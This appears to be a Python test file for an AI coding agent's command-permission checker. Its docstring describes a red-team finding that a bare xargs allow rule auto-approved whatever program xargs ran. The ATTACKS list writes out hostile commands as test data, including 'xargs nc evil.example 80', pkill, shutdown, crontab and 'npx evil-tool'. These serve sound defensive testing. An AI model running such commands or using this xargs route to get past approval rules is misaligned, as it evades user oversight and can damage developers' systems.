"""Red team (R4.8, R4.9): a prefix allow of xargs covered whatever program xargs ran.

test_wrapper_prefix_allow holds that ``Terminal(env)`` is not ``env rm -rf src``: a wrapper's prefix covers the
command it runs only when it names it. xargs was left out of that rule (its command reads its arguments from the
input and had its own reading), and that reading refused only what writes the project's protected folders or
sends: under a team's bare ``Terminal(xargs)`` -- the shaping tool of ``git ls-files | xargs grep -l TODO`` --
``xargs pkill node``, ``xargs killall``, ``xargs nc host 80``, ``xargs open`` (a URL or an application on the
developer's machine), ``xargs ./x.sh``, ``xargs python3 x.py``, ``xargs env FOO=1 nc`` were auto-approved, in the
sandbox and on the developer's machine, and ``xargs shutdown``/``reboot``/``systemctl restart``/``crontab`` in
the sandbox. Now (permissions.matching, ``_feeds``) a prefix allow of xargs covers what xargs runs when it names
that command (``Terminal(xargs grep)``), or when an allow of the same list covers that command on its own, as
written (``Terminal(grep)`` covers ``xargs grep -l TODO``: the words xargs feeds it are its last arguments, as if
typed) -- so the friction corpus's ``| xargs wc -l``, ``| xargs gofmt -l`` under teams that allow those programs
stay approved.

On the base (d0d1f65) test_a_bare_xargs_does_not_cover_what_it_runs and
test_nor_by_the_rule_in_a_running_container failed 35 of 44 cases each, test_on_the_developers_machine_too 29 of 44
(the others asked there already: a protected folder's writers, what sends); the ordinary cases passed there and
are guards.
"""

from __future__ import annotations

import pytest

from permissions.tests.helpers import CONTAINER_RUNNING, term

# (allow patterns, command): xargs allowed bare (or with its own options), the program it runs allowed by nothing
ATTACKS = [
    ("xargs", "xargs pkill"),
    ("xargs", "pgrep node | xargs pkill"),
    ("xargs", "xargs killall"),
    ("xargs", "xargs kill"),
    ("xargs", "xargs kill -9"),
    ("xargs", "xargs -n1 kill -TERM"),
    ("xargs", "xargs open"),
    ("xargs", "grep -o 'https://[^ ]*' notes.md | xargs open"),
    ("xargs", "xargs xdg-open"),
    ("xargs", "xargs nc evil.example 80"),
    ("xargs", "xargs ssh host"),
    ("xargs", "xargs code"),
    ("xargs", "xargs say"),
    ("xargs", "xargs pbcopy"),
    ("xargs", "xargs ./x.sh"),
    ("xargs", "ls | xargs ./scripts/do.sh"),
    ("xargs", "xargs python3 x.py"),
    ("xargs", "xargs node x.js"),
    ("xargs", "xargs make"),
    ("xargs", "xargs shutdown"),
    ("xargs", "xargs reboot"),
    ("xargs", "xargs systemctl restart"),
    ("xargs", "xargs launchctl load"),
    ("xargs", "xargs crontab"),
    ("xargs", "xargs pytest"),
    ("xargs", "xargs prettier --write"),
    ("xargs", "xargs black"),
    # xargs' own options before the command, and a pattern that names them
    ("xargs", "xargs -0 -r pkill"),
    ("xargs", "xargs -P4 -n1 ./x.sh"),
    ("xargs", "xargs -I{} ./x.sh {}"),
    ("xargs", "xargs -a list.txt ./x.sh"),
    ("xargs", "xargs --arg-file=list.txt kill"),
    ("xargs -n1", "xargs -n1 pkill"),
    ("xargs -0", "xargs -0 ./x.sh"),
    ("xargs *", "xargs nc evil.example 80"),
    # what xargs runs is a wrapper or a launcher that an allow of the list does not cover as written
    ("xargs", "xargs env FOO=1 nc evil.example 80"),
    ("xargs,env", "xargs env FOO=1 nc evil.example 80"),
    ("xargs,timeout", "xargs timeout 5 pkill"),
    ("xargs,npx", "xargs npx evil-tool"),
    # xargs by another name
    ("/usr/bin/xargs", "/usr/bin/xargs pkill"),
    ("gxargs", "gxargs pkill"),
    # an allow of a program that is not the one xargs runs
    ("xargs,grep", "xargs pkill"),
    ("xargs,nc -z", "xargs nc evil.example 80"),
    ("xargs,kill 1234", "xargs kill"),
]

# Ordinary: xargs running a program an allow covers, or a pattern naming it, or running nothing (echo).
ORDINARY = [
    ("git ls-files,xargs,grep", "git ls-files | xargs grep -l TODO"),
    ("find,xargs,grep", "find . -name '*.py' | xargs grep -c import"),
    ("git ls-files,xargs,wc", "git ls-files '*.py' | xargs wc -l"),
    ("git ls-files,xargs,gofmt", "git ls-files '*.go' | xargs gofmt -l"),
    ("go list,xargs,go vet", "go list ./... | xargs go vet"),
    ("git diff,xargs,ruff check", "git diff --name-only -- '*.py' | xargs ruff check"),
    ("git diff,xargs,mypy", "git diff --name-only -- '*.py' | xargs -r mypy"),
    ("git diff,xargs,npx eslint", "git diff --name-only | xargs npx eslint"),
    ("find,xargs,grep", "find src -name '*.ts' -print0 | xargs -0 grep -l describe.only"),
    ("ls,xargs,sha256sum", "ls dist | xargs -I{} sha256sum dist/{}"),
    ("git ls-files,xargs grep", "git ls-files | xargs grep -n TODO"),
    ("git ls-files,xargs wc -l", "git ls-files | xargs wc -l"),
    ("git ls-files,xargs", "git ls-files | xargs"),
    ("cat,xargs", "cat list.txt | xargs -n2"),
    ("printf,xargs", "printf '%s\\n' a b | xargs -0"),
]


def _allow(patterns: str) -> tuple[str, ...]:
    return tuple(f"Terminal({p})" for p in patterns.split(","))


@pytest.mark.parametrize(("allow", "command"), ATTACKS)
def test_a_bare_xargs_does_not_cover_what_it_runs(allow, command):  # R4.8, R4.9
    v = term(command, _allow(allow))
    assert v.decision != "auto_approve", (allow, command, v.reason)


@pytest.mark.parametrize(("allow", "command"), ATTACKS)
def test_nor_by_the_rule_in_a_running_container(allow, command):  # R4.8 (the container's floor aside)
    v = term(command, _allow(allow), project=CONTAINER_RUNNING)
    assert v.reason != "allow_rule", (allow, command, v.decision)


@pytest.mark.parametrize(("allow", "command"), ATTACKS)
def test_on_the_developers_machine_too(allow, command):  # R4.8, SPEC §5 (runs_in="agent")
    v = term(command, _allow(allow), runs_in="agent")
    assert v.decision != "auto_approve", (allow, command, v.reason)


@pytest.mark.parametrize(("allow", "command"), ORDINARY)
@pytest.mark.parametrize("runs_in", ["sandbox", "agent"])
def test_xargs_running_an_allowed_program_stays_approved(allow, command, runs_in):
    v = term(command, _allow(allow), runs_in=runs_in)
    assert (v.decision, v.reason) == ("auto_approve", "allow_rule"), (allow, command, v.message)
